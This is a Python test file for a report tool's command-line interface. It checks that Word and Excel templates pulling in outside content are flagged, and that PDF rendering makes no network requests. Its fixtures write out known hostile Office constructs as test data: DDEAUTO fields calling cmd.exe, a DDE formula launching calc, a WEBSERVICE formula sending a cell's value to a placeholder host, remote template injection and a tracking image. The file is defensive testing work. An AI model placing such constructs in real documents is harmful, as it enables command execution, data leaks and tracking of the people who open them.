# ruff: noqa: E501 - one case a line
"""What a template's author put into it that leads out of the documents is told, when templates are looked at and when documents are made."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path

import attaques as a
import pytest
from click.testing import CliRunner

from amem_reports.cli import main

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = '<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
WORD_RELS, SHEET_RELS = "word/_rels/document.xml.rels", "xl/worksheets/_rels/sheet1.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"


def related(data: bytes, part: str, kind: str, target: str, external: bool = True) -> bytes:
    """A template with one more relationship."""
    mode = ' TargetMode="External"' if external else ""
    link = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    have = a.parts(data).get(part, RELS.format("").encode()).decode()
    return a.with_part(data, part, have.replace("</Relationships>", f"{link}</Relationships>").encode())


def field(*pieces: str) -> bytes:
    """A Word template with a field whose words stand in these runs."""
    typed = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return a.edited(a.word(), "word/document.xml", lambda part: part.replace(b"</w:p>", f"{begin}{typed}{end}</w:p>".encode(), 1))


def formula(text: str) -> bytes:
    cell = f'<c r="C7"><f>{text}</f><v>0</v></c>'
    return a.edited(a.excel(), SHEET, lambda part: part.replace(b"</sheetData>", f'<row r="7">{cell}</row></sheetData>'.encode()))


TOLD: dict[str, tuple[str, bytes, str]] = {
    "remote template": ("docx", related(a.word(), "word/_rels/settings.xml.rels", "attachedTemplate", "https://x.example/m.dotm"), "modèle Word attaché « https://x.example/m.dotm »"),
    "remote picture": ("docx", related(a.word(), WORD_RELS, "image", "http://x.example/suivi.png"), "corps du document : image prise ailleurs « http://x.example/suivi.png »"),
    "link to a file": ("docx", related(a.word(), WORD_RELS, "hyperlink", "file:///C:/secret.docx"), "lien vers un fichier « file:///C:/secret.docx »"),
    "link to a share": ("docx", related(a.word(), WORD_RELS, "hyperlink", r"\\serveur\part"), r"lien vers un fichier « \\serveur\part »"),
    "linked object": ("docx", related(a.word(), WORD_RELS, "oleObject", "file:///a.xls"), "objet lié « file:///a.xls »"),
    "object inside": ("docx", a.with_part(related(a.word(), WORD_RELS, "oleObject", "embeddings/o.bin", external=False), "word/embeddings/o.bin", b"x"), "objet incorporé"),
    "document inside": ("docx", a.with_part(related(a.word(), WORD_RELS, "package", "embeddings/o.docx", external=False), "word/embeddings/o.docx", b"x"), "objet incorporé"),
    "DDE": ("docx", field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "corps du document : champ DDEAUTO"),
    "DDE in pieces": ("docx", field(" D", "DE", "AU", "TO x"), "champ DDEAUTO"),
    "INCLUDETEXT": ("docx", field("INCLUDETEXT &quot;\\\\\\\\s\\\\a.docx&quot;"), "champ INCLUDETEXT"),
    "INCLUDEPICTURE": ("docx", field(" includepicture &quot;http://x&quot; \\d"), "champ INCLUDEPICTURE"),
    "simple field": ("docx", a.edited(a.word(), "word/document.xml", lambda part: part.replace(b"</w:p>", b'<w:fldSimple w:instr=" DDE x y "/></w:p>', 1)), "champ DDE,"),
    "HYPERLINK to a file": ("docx", field("HYPERLINK &quot;file:///c:/a.exe&quot;"), "champ HYPERLINK"),
    "linked workbook": ("xlsx", a.with_part(related(a.excel(), "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "file:///b.xlsx"), "xl/externalLinks/externalLink1.xml", b"<externalLink/>"), "classeur lié « file:///b.xlsx »"),
    "DDE in a workbook": ("xlsx", a.with_part(a.excel(), "xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>"), "lien DDE vers un autre programme"),
    "connection": ("xlsx", a.with_part(related(a.excel(), "xl/_rels/workbook.xml.rels", "connections", "connections.xml", external=False), "xl/connections.xml", b"<connections/>"), "connexion à des données"),
    "WEBSERVICE": ("xlsx", formula('WEBSERVICE("http://x.example/"&amp;A1)'), "feuille Sheet1, cellule C7 : formule qui va chercher hors du classeur"),
    "DDE formula": ("xlsx", formula("cmd|'/C calc'!A0"), "cellule C7 : formule"),
    "HYPERLINK formula": ("xlsx", formula('HYPERLINK("file:///c:/a.exe","Voir")'), "cellule C7 : formule"),
}  # fmt: skip
SILENT: dict[str, tuple[str, bytes]] = {
    "web link": ("docx", related(a.word(), WORD_RELS, "hyperlink", "https://www.ilo.org/")),
    "page number": ("docx", field("PAGE", " \\* MERGEFORMAT")),
    "reference": ("docx", field("REF DDE_tableau \\h")),
    "text about DDE": ("docx", a.word("DDEAUTO et INCLUDETEXT sont des champs")),
    "sum": ("xlsx", formula("SUM(A1:A3)&amp;&quot;WEBSERVICE(1)&quot;")),
    "web link by formula": ("xlsx", formula('HYPERLINK("https://www.ilo.org/")')),
}


def looked_at(tmp_path: Path, suffix: str, data: bytes) -> tuple[int, str]:
    path = tmp_path / f"modele.{suffix}"
    path.write_bytes(data)
    result = CliRunner().invoke(main, ["modele", "verifier", str(path)])
    return result.exit_code, result.stderr.replace("\u00a0", " ").replace("\u202f", " ")


@pytest.mark.attaque("contenu extérieur")
@pytest.mark.parametrize("name", TOLD)
def test_what_leads_out_is_told_and_is_no_fault(tmp_path: Path, name: str) -> None:
    suffix, data, said = TOLD[name]
    code, told = looked_at(tmp_path, suffix, data)
    assert code == 0
    (line,) = told.splitlines()
    assert line.startswith("À savoir : ")
    assert said in line


@pytest.mark.parametrize("name", SILENT)
def test_what_stays_inside_or_only_links_to_the_web_is_not(tmp_path: Path, name: str) -> None:
    assert looked_at(tmp_path, *SILENT[name]) == (0, "")


def test_it_is_in_the_json_too(tmp_path: Path) -> None:
    (tmp_path / "m.docx").write_bytes(TOLD["remote picture"][1])
    said = json.loads(CliRunner().invoke(main, ["modele", "verifier", str(tmp_path / "m.docx"), "--format", "json"]).stdout)
    assert [one["message"] for one in said["a_savoir"]] == ["image prise ailleurs « http://x.example/suivi.png »"]
    assert said["fautes"] == []


@pytest.mark.parametrize("name", [name for name in TOLD if name != "remote template"])
def test_it_is_told_when_a_document_is_made(tmp_path: Path, name: str) -> None:
    suffix, data, said = TOLD[name]
    (tmp_path / f"m.{suffix}").write_bytes(data)
    (tmp_path / "d.json").write_text('{"nom": "Zoé"}', encoding="utf-8")
    command = ["modele", "remplir", str(tmp_path / f"m.{suffix}"), str(tmp_path / "d.json"), "--sortie", str(tmp_path / f"f.{suffix}")]
    result = CliRunner().invoke(main, command)
    assert result.exit_code == 0, result.stderr
    assert said in result.stderr.replace("\u00a0", " ").replace("\u202f", " ")


def test_a_report_tells_it_once_and_not_what_was_taken_out(tmp_path: Path) -> None:
    root = Path(__file__).parent.parent
    folder = a.workspace(tmp_path / "espace", root)
    path = folder / "templates" / "plan-de-travail" / "defaut.docx"
    with_picture = related(path.read_bytes(), WORD_RELS, "image", "http://x.example/suivi.png")
    path.write_bytes(related(with_picture, "word/_rels/settings.xml.rels", "attachedTemplate", "https://x.example/m.dotm"))
    result = CliRunner().invoke(main, ["plan-de-travail", "--espace", str(folder), "--date", "2019-07-15", "--format", "docx"])
    assert result.exit_code == 0, result.stderr
    assert result.stderr.count("http://x.example/suivi.png") == 1
    assert "m.dotm" not in result.stderr
    made = next((folder / "output").glob("*.docx"))
    assert not any(b"m.dotm" in content for content in a.parts(made.read_bytes()).values())


@pytest.fixture
def asked() -> Iterator[tuple[str, list[str]]]:
    """A server on this machine, and what it was asked for."""
    seen: list[str] = []

    class Server(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_error(404)

        do_HEAD = do_OPTIONS = do_PROPFIND = do_GET  # noqa: N815 - the library’s names

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Server)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()
    server.server_close()


@pytest.mark.libreoffice
@pytest.mark.attaque("contenu extérieur")
def test_a_pdf_is_made_without_asking_the_network_for_anything(tmp_path: Path, asked: tuple[str, list[str]]) -> None:
    from amem_reports.rendering import pdf

    address, seen = asked
    shape = "<v:shape style='width:9pt;height:9pt'><v:imagedata r:id='rIdX'/></v:shape>"
    drawing = (
        f"<w:p><w:r><w:pict xmlns:v='urn:schemas-microsoft-com:vml'>{shape}</w:pict></w:r><w:r><w:drawing><wp:inline>"
        "<wp:extent cx='99999' cy='99999'/><wp:docPr id='1' name='a'/><a:graphic xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main'>"
        "<a:graphicData uri='http://schemas.openxmlformats.org/drawingml/2006/picture'>"
        "<pic:pic xmlns:pic='http://schemas.openxmlformats.org/drawingml/2006/picture'><pic:nvPicPr><pic:cNvPr id='1' name='a'/><pic:cNvPicPr/>"
        "</pic:nvPicPr><pic:blipFill><a:blip r:link='rIdX'/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x='0' y='0'/>"
        "<a:ext cx='99999' cy='99999'/></a:xfrm><a:prstGeom prst='rect'><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>"
        "</wp:inline></w:drawing></w:r></w:p>"
    )
    data = related(field(f"INCLUDEPICTURE &quot;{address}/champ.png&quot; \\d"), WORD_RELS, "image", f"{address}/image.png")
    data = a.edited(data, "word/document.xml", lambda part: part.replace(b"<w:sectPr", f"{drawing}<w:sectPr".encode(), 1))
    (tmp_path / "m.docx").write_bytes(data)
    sheet = formula(f"WEBSERVICE(&quot;{address}/formule&quot;)")
    (tmp_path / "c.xlsx").write_bytes(sheet)
    pdf.convert([tmp_path / "m.docx", tmp_path / "c.xlsx"], tmp_path)
    assert seen == []
